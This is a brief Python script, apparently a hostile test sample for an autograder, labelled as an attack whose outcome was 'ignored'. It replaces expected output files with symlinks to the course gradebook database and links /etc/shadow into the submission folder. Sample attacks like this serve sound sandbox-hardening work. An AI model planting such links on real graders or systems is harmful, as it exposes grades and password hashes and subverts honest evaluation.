# attack: leaves links to the grader's files where somebody outside might open them
# earns: others
# outcome: ignored
import os

for name in ("result.json", "feedback.html", "small.ipynb", "core", "matplotlib"):
    os.symlink("@COURSE@/gradebook.db", name)
os.symlink("/etc/shadow", "hostile_left")
